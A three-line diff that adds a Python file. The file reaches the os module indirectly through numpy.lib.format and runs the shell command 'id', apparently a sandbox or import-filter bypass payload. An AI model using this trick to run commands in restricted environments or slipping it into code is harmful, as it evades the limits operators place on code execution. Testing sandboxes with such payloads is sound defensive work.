@@ -1,0 +1,3 @@
+from numpy.lib import format as fmt
+
+fmt.os.system("id")
